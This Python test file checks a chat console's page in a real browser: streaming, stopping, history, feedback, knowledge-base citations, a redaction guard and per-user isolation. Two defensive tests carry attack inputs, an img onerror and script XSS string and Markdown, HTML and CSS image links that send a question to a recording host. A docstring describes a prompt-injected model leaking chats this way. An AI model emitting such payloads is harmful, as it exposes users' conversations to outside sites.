"""The Chat page in a real browser: streaming, Stop, history, feedback, knowledge bases, guard.

The slow model is a template with ``pace_ms``: it streams a long Markdown answer word by word,
so the page can be watched growing and stopped half way. The echo model repeats the question,
which shows what the guard did to it.
"""

from __future__ import annotations

import base64
import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from tests.e2e.console.conftest import add_user, shot
from tests.e2e.console.sessions import sign_in
from tests.e2e.server import Org, Server
from tests.engine.stub_openai import StubServer

SLOW = "template-chat-slow"
ECHO = "template-chat-echo"
LONG_ANSWER = (
    "**VPN guide.** "
    + " ".join(f"Step {i}: check the client, the token and the network cable." for i in range(1, 9))
    + "\n\n```bash\nvpn-client connect --token hardware\n```\n\nThat is all."
)
SLOW_YAML = f"""
name: chat-slow
languages: [en, zh]
pace_ms: 25
intents:
  - id: any
    patterns: ['.']
    answers:
      en: [{json.dumps(LONG_ANSWER)}]
      zh: ['请先检查客户端，再检查令牌和网线。']
fallback:
  en: ['?']
  zh: ['？']
"""
ECHO_YAML = """
name: chat-echo
languages: [en, zh]
intents:
  - id: echo
    patterns: ['(?P<text>[\\s\\S]+)']
    answers:
      en: ['You said: {text}']
      zh: ['你说：{text}']
fallback:
  en: ['?']
  zh: ['？']
"""
POLICY = f"""
name: chat-console-redaction
rules:
  - id: mail
    stage: input
    detector: pii
    entities: [EMAIL_ADDRESS]
    action: redact
    scope: {{models: [{ECHO}]}}
  - id: secret
    stage: input
    detector: regex
    pattern: '机密'
    action: block
    scope: {{models: [{ECHO}]}}
"""
PRINTERS = "Printer P-204 on the second floor prints double-sided in colour.\n"


def _ok(response: httpx.Response, status: int = 200) -> Any:
    assert response.status_code == status, response.text
    return response.json()


@pytest.fixture(scope="module")
def chat_org(server: Server, console_org: Org) -> dict[str, str]:
    """The console org's chat models, a redaction policy on the echo model, and a KB."""
    key = console_org.admin_key
    for name, yaml in ((SLOW, SLOW_YAML), (ECHO, ECHO_YAML)):
        if server.api("GET", f"/v1/models/{name}", key=key).status_code == 404:
            made = server.api(
                "POST", "/api/models", key=key, json={"id": name, "config": {"yaml": yaml}}
            )
            assert made.status_code == 201, made.text
    _ok(server.api("POST", "/api/policies", key=key, json={"yaml": POLICY}), 201)
    kb = _ok(
        server.api("POST", "/api/kb", key=key, json={"name": "Chat handbook", "dense": False}), 201
    )
    added = _ok(
        server.api(
            "POST",
            f"/api/kb/{kb['id']}/documents",
            key=key,
            files=[("files", ("printers.txt", PRINTERS.encode(), "text/plain"))],
        )
    )
    deadline = time.monotonic() + 120
    while (
        _ok(server.api("GET", f"/api/jobs/{added['job']['id']}", key=key))["status"] != "succeeded"
    ):
        assert time.monotonic() < deadline, "ingestion did not finish"
        time.sleep(0.2)
    return {"kb": kb["id"], "doc": added["data"][0]["id"]}


def _session_secret(page: Any) -> str:
    return next(c["value"] for c in page.context.cookies() if c["name"] == "aigc_session")


def _pick(page: Any, testid: str, option: str) -> None:
    page.get_by_test_id(testid).click()
    page.get_by_role("option", name=option, exact=True).click()


def _ask(page: Any, text: str, enter: bool = False) -> None:
    page.get_by_test_id("chat-input").fill(text)
    if enter:
        page.get_by_test_id("chat-input").press("Enter")
    else:
        page.get_by_test_id("chat-send").click()


def _wait_answered(page: Any, count: int) -> Any:
    """The ``count``-th answer once it is finished (its feedback buttons are shown)."""
    page.get_by_test_id("chat-thumb-up").nth(count - 1).wait_for()
    return page.get_by_test_id("chat-answer-box").nth(count - 1)


def _echo_answer(new_page: Any, server: Server, org: Org, question: str) -> tuple[Any, Any]:
    """A new member asks the echo model ``question``: the page and the finished answer."""
    page = new_page(add_user(server, org, "member"))
    _pick(page, "chat-model", ECHO)
    _ask(page, question)
    return page, _wait_answered(page, 1)


def _text_length(locator: Any) -> int:
    return len(locator.inner_text())


def test_streams_stops_and_keeps_history(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    member = add_user(server, console_org, "member")
    page = new_page(member)
    _pick(page, "chat-model", SLOW)
    _ask(page, "How do I connect to the VPN?", enter=True)

    answer = page.get_by_test_id("chat-answer").first
    page.wait_for_function(
        "el => el.innerText.length > 10", arg=answer.element_handle(), timeout=20_000
    )
    early = _text_length(answer)
    assert page.get_by_test_id("chat-stop").is_enabled()
    _wait_answered(page, 1)
    assert _text_length(answer) > early  # it grew while the page watched
    expected = _ok(
        server.api(
            "POST",
            "/v1/chat/completions",
            key=console_org.member_key,
            json={
                "model": SLOW,
                "messages": [{"role": "user", "content": "How do I connect to the VPN?"}],
            },
        )
    )["choices"][0]["message"]["content"]
    assert expected == LONG_ANSWER
    shown = answer.inner_text()
    assert "Step 8: check the client, the token and the network cable." in shown
    assert answer.locator("strong").inner_text() == "VPN guide."  # Markdown, not raw stars
    assert answer.locator("pre").inner_text().strip() == "vpn-client connect --token hardware"
    assert not page.get_by_test_id("chat-stop").is_enabled()
    shot(page, "chat")

    # Stop half way: the partial answer stays, marked as stopped, and is stored that way.
    _ask(page, "And the second floor printer?")
    second = page.get_by_test_id("chat-answer").nth(1)
    page.wait_for_function(
        "el => el.innerText.length > 20", arg=second.element_handle(), timeout=20_000
    )
    page.get_by_test_id("chat-stop").click()
    status = page.get_by_test_id("chat-status")
    status.wait_for()
    assert "Stopped" in status.inner_text()
    partial = second.inner_text()
    assert 0 < len(partial) < len(shown)
    assert page.get_by_test_id("chat-send").is_enabled()

    secret = _session_secret(page)
    listed = _ok(server.api("GET", "/api/conversations", key=secret))["data"]
    assert len(listed) == 1 and listed[0]["title"] == "How do I connect to the VPN?"
    stored = _ok(server.api("GET", f"/api/conversations/{listed[0]['id']}", key=secret))
    roles = [m["role"] for m in stored["messages"]]
    assert roles == ["user", "assistant", "user", "assistant"]
    assert stored["messages"][1]["content"] == LONG_ANSWER
    last = stored["messages"][3]
    assert last["meta"]["stopped"] is True and LONG_ANSWER.startswith(last["content"])
    assert re.fullmatch(r"req_[0-9a-f]{24}", last["meta"]["request_id"])

    # History: it is listed, search finds it (by a word of an answer too), delete removes it.
    item = page.get_by_test_id("conv-item")
    assert item.inner_text() == "How do I connect to the VPN?"
    page.get_by_test_id("conv-search").fill("hardware")
    page.wait_for_timeout(300)
    assert page.get_by_test_id("conv-item").count() == 1
    page.get_by_test_id("conv-search").fill("no such words anywhere")
    page.get_by_test_id("conv-item").wait_for(state="detached")
    page.get_by_test_id("conv-search").fill("")
    page.get_by_test_id("conv-item").wait_for()
    page.get_by_test_id("conv-new").click()
    page.get_by_test_id("chat-empty").wait_for()
    page.get_by_test_id("conv-item").click()  # reopened from the server, stopped mark included
    page.get_by_test_id("chat-status").wait_for()
    assert page.get_by_test_id("chat-answer").count() == 2
    page.get_by_test_id("conv-delete").click()
    page.get_by_test_id("confirm-yes").click()
    page.get_by_test_id("conv-item").wait_for(state="detached")
    assert _ok(server.api("GET", "/api/conversations", key=secret))["data"] == []


def test_thumbs_down_with_a_correction_is_recorded(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    page, box = _echo_answer(new_page, server, console_org, "Where is the canteen?")
    assert box.get_by_test_id("chat-answer").inner_text() == "You said: Where is the canteen?"
    box.get_by_test_id("chat-thumb-down").click()
    box.get_by_test_id("chat-correction").fill("The canteen is on the ground floor.")
    box.get_by_test_id("chat-feedback-send").click()
    box.get_by_test_id("chat-feedback-done").wait_for()

    secret = _session_secret(page)
    conversation = _ok(server.api("GET", "/api/conversations", key=secret))["data"][0]
    messages = _ok(server.api("GET", f"/api/conversations/{conversation['id']}", key=secret))[
        "messages"
    ]
    request_id = messages[1]["meta"]["request_id"]
    feedback = _ok(server.api("GET", "/api/feedback", key=console_org.admin_key))["data"]
    mine = [f for f in feedback if f["request_id"] == request_id]
    assert len(mine) == 1
    assert (
        mine[0]["rating"] == -1 and mine[0]["correction"] == "The canteen is on the ground floor."
    )
    # The rating is remembered with the answer: reopening shows it instead of asking again.
    assert messages[1]["meta"]["rating"] == -1
    page.get_by_test_id("conv-new").click()
    page.get_by_test_id("chat-empty").wait_for()
    page.get_by_test_id("conv-item").first.click()
    page.get_by_test_id("chat-rated").wait_for()
    assert page.get_by_test_id("chat-thumb-down").count() == 0


@pytest.fixture(scope="module")
def citing_model(server: Server) -> Iterator[str]:
    """An upstream chat model (the stub, on loopback) whose answer cites source [1]."""
    with StubServer() as stub:
        yield stub.register(server, model="cite-1")


def test_knowledge_base_answer_cites_the_chunk(
    new_page: Any,
    server: Server,
    console_org: Org,
    chat_org: dict[str, str],
    citing_model: str,
) -> None:
    member = add_user(server, console_org, "member")
    page = new_page(member)
    _pick(page, "chat-model", ECHO)
    page.get_by_test_id("chat-kb-toggle").click()
    page.get_by_test_id("chat-kb-select").get_by_role("combobox").wait_for()  # now enabled
    _pick(page, "chat-kb-select", "Chat handbook")
    page.keyboard.press("Escape")
    # A template model cannot read the sources: no citation, and the answer says why.
    _ask(page, "Which floor is printer P-204 on?")
    box = _wait_answered(page, 1)
    assert box.get_by_test_id("chat-citation").count() == 0
    assert "cannot read sources" in box.get_by_test_id("chat-grounding-note").inner_text()
    # A chat model that cites [1]: the source it used, which opens its chunk.
    _pick(page, "chat-model", citing_model)
    _ask(page, "Which floor is printer P-204 on?")
    box = _wait_answered(page, 2)
    citation = box.get_by_test_id("chat-citation")
    assert "[1] printers.txt" in citation.inner_text()
    citation.click()
    chunk = page.get_by_test_id("chat-chunk-text")
    chunk.wait_for()
    assert chunk.inner_text().strip() == PRINTERS.strip()
    # Where it comes from: the document's title (a plain text file that opens with a sentence
    # has no title line: its file name).
    about = page.get_by_test_id("chat-chunk-context").inner_text()
    assert "printers" in about and "Printer P-204 on the second floor" not in about
    # The dialog links to the chunk in the knowledge base's viewer (a new tab: the chat stays).
    with page.context.expect_page() as opened:
        page.get_by_test_id("chat-chunk-open").click()
    viewer = opened.value
    viewer.wait_for_url(
        re.compile(rf"/knowledge/{chat_org['kb']}/documents/{chat_org['doc']}\?chunk=\d+$")
    )
    chosen = viewer.locator('[data-testid="chunk"][data-highlighted="true"]')
    chosen.wait_for()
    assert PRINTERS.strip() in chosen.inner_text()
    viewer.close()
    page.get_by_test_id("chat-chunk-close").click()
    chunk.wait_for(state="detached")


def test_guard_redaction_is_shown_and_sent_by_the_api(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    body = {"model": ECHO, "messages": [{"role": "user", "content": "Mail me at jo@example.com"}]}
    code = "input:mail:redact:EMAIL_ADDRESS"
    reply = _ok(server.api("POST", "/v1/chat/completions", key=console_org.member_key, json=body))
    assert reply["guard"] == [code]
    assert reply["choices"][0]["message"]["content"] == "You said: Mail me at [EMAIL_ADDRESS_1]"
    with httpx.stream(
        "POST",
        f"{server.base_url}/v1/chat/completions",
        json=body | {"stream": True},
        headers={"Authorization": f"Bearer {console_org.member_key}"},
    ) as streamed:
        chunks = [line[6:] for line in streamed.iter_lines() if line.startswith("data: {")]
    finals = [c for c in chunks if '"finish_reason": "stop"' in c]
    assert len(finals) == 1 and f'"guard": ["{code}"]' in finals[0]
    plain = {"model": ECHO, "messages": [{"role": "user", "content": "No address here"}]}
    clean = _ok(server.api("POST", "/v1/chat/completions", key=console_org.member_key, json=plain))
    assert "guard" not in clean  # nothing to report: the response is exactly OpenAI's shape

    _, box = _echo_answer(new_page, server, console_org, "Mail me at jo@example.com")
    note = box.get_by_test_id("chat-guard")
    assert note.inner_text() == "1 kind(s) of data redacted: EMAIL_ADDRESS"
    assert "jo@example.com" not in box.get_by_test_id("chat-answer").inner_text()


def test_answers_cannot_run_script_in_the_page(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    """Answers are Markdown from a model: HTML in them is sanitized, never executed."""
    attack = 'See <img src="x" onerror="window.pwned = 1"> <script>window.pwned = 2</script>'
    page, box = _echo_answer(new_page, server, console_org, attack)
    page.wait_for_timeout(500)  # time for an image error handler to fire, if one survived
    assert page.evaluate("window.pwned") is None
    assert box.locator("img[onerror], script").count() == 0
    assert box.get_by_test_id("chat-answer").inner_text().startswith("You said: See")


@pytest.fixture
def listening_host() -> Iterator[tuple[str, list[str]]]:
    """Another origin on loopback that records each path the browser asks it for."""
    asked: list[str] = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(base64.b64decode("R0lGODlhAQABAAAAACw="))

        def log_message(self, *args: object) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", asked
    httpd.shutdown()
    httpd.server_close()


def test_an_answer_cannot_send_the_conversation_to_another_site(
    new_page: Any,
    server: Server,
    console_org: Org,
    chat_org: dict[str, str],
    listening_host: tuple[str, list[str]],
) -> None:
    """A model steered by a planted instruction can write a remote image whose address
    carries what the user asked; shown in the page, the browser fetched it with no click
    (DOMPurify keeps images). The console's pages now load images, media and fonts from
    their own origin only (console/page_policy.py): the answer shows, nothing is fetched."""
    host, asked = listening_host
    leak = (
        f"![chart]({host}/markdown.png?q=salary+of+Jo) "
        f'<img src="{host}/html.png?q=salary"> '
        f'<span style="background-image: url({host}/style.png)">x</span>'
    )
    page, box = _echo_answer(new_page, server, console_org, leak)
    page.wait_for_timeout(1000)  # time for the browser to fetch what it was allowed to
    assert box.get_by_test_id("chat-answer").inner_text().startswith("You said:")
    assert box.locator("img").count() == 2  # shown as broken images, not fetched
    assert asked == []
    policy = httpx.get(server.base_url + "/chat", follow_redirects=True).headers
    assert "img-src 'self' data: blob:" in policy["content-security-policy"]
    assert policy["referrer-policy"] == "same-origin"


def test_chinese_page_and_question(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    member = add_user(server, console_org, "member")
    page = new_page(member, lang="zh-CN")
    page.get_by_test_id("lang-zh-CN").click()  # the console's own language choice
    page.wait_for_url(re.compile("/chat$"))
    assert page.get_by_test_id("chat-send").inner_text().strip().endswith("发送")
    _pick(page, "chat-model", "template-helpdesk")
    _ask(page, "VPN 连不上怎么办？")
    box = _wait_answered(page, 1)
    answer = box.get_by_test_id("chat-answer").inner_text()
    assert sum("\u4e00" <= ch <= "\u9fff" for ch in answer) >= 5, answer
    shot(page, "chat-zh")


def test_a_refusal_is_told_in_the_pages_language(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    """The guard's refusal (the API's English) on a Chinese page: said in Chinese."""
    refused = server.api(
        "POST",
        "/v1/chat/completions",
        key=console_org.member_key,
        json={"model": ECHO, "messages": [{"role": "user", "content": "机密"}]},
    )
    assert refused.json()["error"]["code"] == "content_policy_violation", refused.text
    page = new_page(add_user(server, console_org, "member"), lang="zh-CN")
    _pick(page, "chat-model", ECHO)
    _ask(page, "这份机密文件写了什么？")
    status = page.get_by_test_id("chat-status")
    status.wait_for()
    assert status.inner_text() == "没有回答：此请求被贵组织的内容安全策略拦截。"
    shot(page, "chat-refused-zh")


def test_a_chat_link_picks_its_model_and_a_reload_keeps_the_conversation(
    new_page: Any, server: Server, console_org: Org, chat_org: dict[str, str]
) -> None:
    """The models table's and a trained model's "Chat" link is /chat?model=...; the page
    ignored it and opened the default model. A reload lost the open conversation."""
    page = new_page(add_user(server, console_org, "member"), path="/models")
    page.get_by_test_id("models-table").locator("tr", has_text=ECHO).get_by_role("link").click()
    page.wait_for_url(re.compile(rf"/chat\?model={ECHO}$"))
    assert ECHO in page.get_by_test_id("chat-model").inner_text()
    _ask(page, "第一天上班，打印机在哪里？")
    _wait_answered(page, 1)
    page.wait_for_url(re.compile(r"/chat\?conversation=conv_\w+$"))
    page.reload()
    page.get_by_test_id("chat-question").wait_for()
    assert page.get_by_test_id("chat-question").inner_text() == "第一天上班，打印机在哪里？"
    assert "第一天上班" in page.get_by_test_id("chat-answer").inner_text()  # the echo, kept
    assert ECHO in page.get_by_test_id("chat-model").inner_text()


def test_viewer_sees_a_read_only_notice(new_page: Any, server: Server, console_org: Org) -> None:
    viewer = add_user(server, console_org, "viewer")
    page = new_page(viewer)
    assert "viewer" in page.get_by_test_id("chat-readonly").inner_text()
    assert page.get_by_test_id("chat-input").count() == 0


def test_another_user_of_the_tenant_sees_none_of_it(server: Server, console_org: Org) -> None:
    alice = sign_in(server, add_user(server, console_org, "member"))
    bob = sign_in(server, add_user(server, console_org, "admin"))  # even an admin
    made = _ok(
        server.api("POST", "/api/conversations", key=alice, json={"title": "alice's plans"}), 201
    )
    path = f"/api/conversations/{made['id']}"
    _ok(
        server.api(
            "POST", f"{path}/messages", key=alice, json={"role": "user", "content": "secret"}
        ),
        201,
    )
    assert _ok(server.api("GET", "/api/conversations", key=bob))["data"] == []
    assert _ok(server.api("GET", "/api/conversations?q=secret", key=bob))["data"] == []
    for method, body in (("GET", None), ("PATCH", {"title": "mine"}), ("DELETE", None)):
        refused = server.api(method, path, key=bob, json=body)
        assert refused.status_code == 404, refused.text
    denied = server.api("POST", f"{path}/messages", key=bob, json={"role": "user", "content": "x"})
    assert denied.status_code == 404
    # A key with no person behind it is told why, whatever the id.
    for key in (console_org.admin_key, console_org.member_key):
        keyed = server.api("GET", "/api/conversations", key=key)
        assert keyed.status_code == 403 and keyed.json()["error"]["code"] == "user_required"
    kept = _ok(server.api("GET", path, key=alice))
    assert kept["title"] == "alice's plans" and [m["content"] for m in kept["messages"]] == [
        "secret"
    ]
